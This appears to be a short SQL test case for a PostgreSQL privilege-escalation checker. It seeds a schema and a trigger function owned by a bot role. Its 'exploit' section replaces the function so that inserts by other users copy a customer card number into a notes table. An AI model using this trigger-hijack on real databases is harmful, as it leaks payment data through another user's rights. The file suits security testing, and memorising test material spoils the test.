-- about: the role owns a function that a trigger of people's table runs with people's rights
-- claim: replace-function REPLACE stamps.stamp()
-- seed
CREATE SCHEMA stamps AUTHORIZATION PREFIXbot;
GRANT USAGE ON SCHEMA stamps TO PREFIXowner;
CREATE FUNCTION stamps.stamp() RETURNS trigger LANGUAGE plpgsql
AS $$ BEGIN NEW.stamped_by := SESSION_USER; RETURN NEW; END $$;
ALTER FUNCTION stamps.stamp() OWNER TO PREFIXbot;
CREATE TRIGGER stamp BEFORE INSERT ON shop.orders FOR EACH ROW EXECUTE FUNCTION stamps.stamp();
-- exploit
CREATE OR REPLACE FUNCTION stamps.stamp() RETURNS trigger LANGUAGE plpgsql
AS $$ BEGIN INSERT INTO shop.notes (text) SELECT card_number FROM shop.customers LIMIT 1; RETURN NEW; END $$;
SELECT true;
-- after
SET ROLE PREFIXowner;
INSERT INTO shop.orders (customer_id) VALUES (1);
-- proof
SELECT true FROM shop.notes WHERE text LIKE '%secret%';
-- people
INSERT INTO shop.orders (customer_id) VALUES (2);
